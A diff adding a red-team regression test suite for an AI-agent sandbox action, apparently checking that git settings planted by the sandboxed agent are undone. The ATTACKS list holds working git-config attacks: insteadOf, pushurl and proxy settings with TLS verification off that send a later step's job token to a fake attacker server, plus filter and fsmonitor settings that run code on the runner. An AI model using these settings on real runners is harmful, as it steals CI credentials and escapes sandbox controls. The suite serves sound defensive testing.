@@ -1,0 +1,242 @@
+/**
+ * Our own red team: crossings the other suites did not list, each found by attacking the real
+ * action (real container, real git on the runner) and kept as a regression test.
+ *
+ * Class 80: git settings that run nothing but send a later step's credentials where the agent
+ * says (a URL rewrite, a push URL, a proxy with TLS verification off). The agent never holds
+ * the job token; a later step's `git push` / `git ls-remote` on the runner would carry it to
+ * the agent's server. Each attack is judged by an "attacker" server on the runner side: it
+ * must receive nothing holding the token.
+ *
+ * Class 81: executable git settings in a subsection spelled with capitals (`filter.EVIL`,
+ * `includeIf.onbranch:[Mm]aster`): git keeps a subsection's case, and the guard of class 50
+ * folded it, so it asked git to remove another setting and left this one in place.
+ */
+import { execFile, execFileSync } from 'node:child_process'
+import { randomBytes } from 'node:crypto'
+import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type net from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import tls from 'node:tls'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { requireDocker, TEST_IMAGE } from '../support/docker.js'
+import { runAction, runnerIdentity } from '../support/runner.js'
+import { createTestPki, type TestPki } from '../support/test-ca.js'
+import { writeSuiteResults, type AttackResult } from './support/results.js'
+
+const hasDocker = await requireDocker()
+
+/** The job token a later step of the job pushes with; the sandbox never sees it. */
+const TOKEN = `ghs_RedteamJobToken${randomBytes(12).toString('hex')}`
+
+/** What the attacker's servers received: URLs and decoded Authorization headers. */
+const received: string[] = []
+
+function record(req: http.IncomingMessage, res: http.ServerResponse): void {
+  const auth = req.headers.authorization ?? ''
+  const decoded = /^basic /i.test(auth) ? Buffer.from(auth.slice(6), 'base64').toString() : auth
+  received.push(`${req.method ?? ''} ${req.headers.host ?? ''}${req.url ?? ''} ${decoded}`)
+  // Ask for credentials the way GitHub does, so git hands over what it has.
+  res.writeHead(auth ? 403 : 401, { 'www-authenticate': 'Basic realm="GitHub"' })
+  res.end()
+}
+
+let recorder: http.Server
+let mitm: http.Server
+let pki: TestPki
+let recorderPort = 0
+let mitmPort = 0
+
+interface GitAttack {
+  id: string
+  cls: 80 | 81
+  attack: string
+  /** Shell run in the container, in the workspace; `$M` is a marker path on the runner. */
+  script: () => string
+  /** What a later step of the job runs on the runner (git args), with its extra env. */
+  later: (ws: string, scratch: string) => { args: string[]; env?: Record<string, string> }
+}
+
+const ATTACKS: GitAttack[] = [
+  {
+    id: '80.1',
+    cls: 80,
+    attack:
+      '`git config url.<attacker>.insteadOf https://x-access-token:`; a later step runs `git ls-remote https://x-access-token:<job token>@github.com/…`',
+    script: () =>
+      `git config url.http://127.0.0.1:${recorderPort}/steal/.insteadOf https://x-access-token:`,
+    later: () => ({ args: ['ls-remote', `https://x-access-token:${TOKEN}@github.com/octo/repo`] })
+  },
+  {
+    id: '80.2',
+    cls: 80,
+    attack:
+      '`http.proxy` set to the attacker with `http.sslVerify false`; a later step runs `git ls-remote` with a credential helper for github.com (as `gh auth setup-git` leaves)',
+    script: () =>
+      `git config http.proxy http://127.0.0.1:${mitmPort} && git config http.sslVerify false`,
+    later: () => ({
+      args: [
+        '-c',
+        `credential.https://github.com.helper=!f() { echo username=x-access-token; echo password=${TOKEN}; }; f`,
+        'ls-remote',
+        'https://github.com/octo/repo'
+      ]
+    })
+  },
+  {
+    id: '80.3',
+    cls: 80,
+    attack:
+      '`remote.origin.pushurl` pointed at the attacker; a later step runs `git push origin` with `GIT_ASKPASS` handing out the job token',
+    script: () => `git config remote.origin.pushurl http://127.0.0.1:${recorderPort}/octo/repo`,
+    later: (_ws, scratch) => {
+      const askpass = join(scratch, 'askpass.sh')
+      writeFileSync(
+        askpass,
+        `#!/bin/sh\ncase "$1" in Username*) echo x-access-token;; *) echo ${TOKEN};; esac\n`,
+        { mode: 0o700 }
+      )
+      return { args: ['push', '-q', 'origin', 'HEAD:main'], env: { GIT_ASKPASS: askpass } }
+    }
+  },
+  {
+    id: '81.1',
+    cls: 81,
+    attack:
+      'a clean filter in a capitalised subsection (`filter.EVIL.clean`) with `.gitattributes` naming it; a later step runs `git add -A`',
+    script: () =>
+      `echo "*.txt filter=EVIL" > .gitattributes && git config filter.EVIL.clean "sh -c 'touch $M; cat'" && echo changed > a.txt`,
+    later: () => ({ args: ['add', '-A'] })
+  },
+  {
+    id: '81.2',
+    cls: 81,
+    attack:
+      '`includeIf.onbranch:[Mm]aster.path` naming a workspace file that sets `core.fsmonitor`; a later step runs `git status`',
+    script: () =>
+      `printf '[core]\\n\\tfsmonitor = touch %s\\n' "$M" > .inc && git config 'includeIf.onbranch:[Mm]aster.path' ../.inc`,
+    later: () => ({ args: ['status', '--short'] })
+  }
+]
+
+describe.skipIf(!hasDocker)('red team: git settings left for the runner', () => {
+  const results: AttackResult[] = []
+
+  beforeAll(async () => {
+    pki = await createTestPki(['github.com'])
+    recorder = http.createServer(record)
+    await new Promise<void>((r) => recorder.listen(0, '127.0.0.1', r))
+    recorderPort = (recorder.address() as AddressInfo).port
+    // An attacker's proxy: answers CONNECT, then terminates TLS with a certificate no client
+    // that verifies would take, and reads the requests inside.
+    const inner = http.createServer(record)
+    mitm = http.createServer((_req, res) => res.writeHead(405).end())
+    mitm.on('connect', (_req, socket: net.Socket) => {
+      socket.on('error', () => socket.destroy())
+      socket.write('HTTP/1.1 200 Connection Established\r\n\r\n')
+      const t = new tls.TLSSocket(socket, {
+        isServer: true,
+        key: pki.keyPem,
+        cert: pki.certPem
+      })
+      t.on('error', () => t.destroy())
+      inner.emit('connection', t)
+    })
+    await new Promise<void>((r) => mitm.listen(0, '127.0.0.1', r))
+    mitmPort = (mitm.address() as AddressInfo).port
+  })
+
+  afterAll(async () => {
+    writeSuiteResults('redteam', results)
+    recorder?.close()
+    mitm?.close()
+    if (pki) rmSync(pki.dir, { recursive: true, force: true })
+  })
+
+  it.each(ATTACKS)('$id $attack', async (a) => {
+    const ws = mkdtempSync(join(tmpdir(), 'airlock-rtws-'))
+    const scratch = mkdtempSync(join(tmpdir(), 'airlock-rtlater-'))
+    const marker = `${ws}-ran`
+    received.length = 0
+    const env = {
+      ...process.env,
+      GIT_CONFIG_NOSYSTEM: '1',
+      HOME: scratch,
+      GIT_TERMINAL_PROMPT: '0',
+      // The runner's git trusts the workspace the container (another uid) wrote to.
+      GIT_CONFIG_COUNT: '1',
+      GIT_CONFIG_KEY_0: 'safe.directory',
+      GIT_CONFIG_VALUE_0: '*'
+    }
+    const git = (args: string[], extra: Record<string, string> = {}): string =>
+      execFileSync('git', args, {
+        cwd: ws,
+        encoding: 'utf8',
+        env: { ...env, ...extra },
+        stdio: ['ignore', 'pipe', 'pipe'],
+        timeout: 30_000
+      })
+    try {
+      // What actions/checkout with `persist-credentials: false` leaves.
+      git(['init', '-q', '--initial-branch=master'])
+      git(['remote', 'add', 'origin', 'https://github.com/octo/repo'])
+      writeFileSync(join(ws, 'a.txt'), 'a\n')
+      git(['add', '-A'])
+      git(['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'base'])
+      const id = runnerIdentity()
+      if (id) execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, ws])
+      const run = await runAction({
+        env: { GITHUB_WORKSPACE: ws },
+        inputs: {
+          image: TEST_IMAGE,
+          'timeout-minutes': '3',
+          command: `export M='${marker}'; git config --global --add safe.directory '*'; ${a.script()}`
+        }
+      })
+      const problems: string[] = []
+      if (run.main.code !== 0)
+        problems.push(`main failed: ${run.main.stdout.split('\n').slice(-5).join(' ')}`)
+      // A later step of the job, on the runner.
+      const later = a.later(ws, scratch)
+      // Not execFileSync: the attacker's servers live in this process and must answer.
+      await new Promise<void>((resolve) =>
+        execFile(
+          'git',
+          later.args,
+          { cwd: ws, env: { ...env, ...later.env }, timeout: 30_000 },
+          // refused, unreachable or taken out of use: judged by what reached the attacker
+          () => resolve()
+        )
+      )
+      if (received.some((r) => r.includes(TOKEN)))
+        problems.push("the later step's job token reached the attacker's server")
+      if (existsSync(marker)) problems.push('the planted program ran on the runner')
+      const said =
+        a.cls === 80
+          ? /git would have sent a later step's credentials where it says/
+          : /git would have run it on the runner/
+      if (!said.test(run.main.stdout))
+        problems.push('the step log does not say what was taken back')
+      results.push({
+        id: a.id,
+        cls: a.cls,
+        attack: a.attack,
+        outcome:
+          problems.length === 0
+            ? a.cls === 80
+              ? 'taken back after the run and reported; the later step’s token went nowhere the agent chose'
+              : 'taken back after the run (in its own spelling) and reported; nothing ran on the runner'
+            : problems.join('; '),
+        verdict: problems.length === 0 ? 'pass' : 'fail'
+      })
+      expect(problems).toEqual([])
+    } finally {
+      rmSync(ws, { recursive: true, force: true })
+      rmSync(scratch, { recursive: true, force: true })
+      rmSync(marker, { force: true })
+    }
+  })
+})
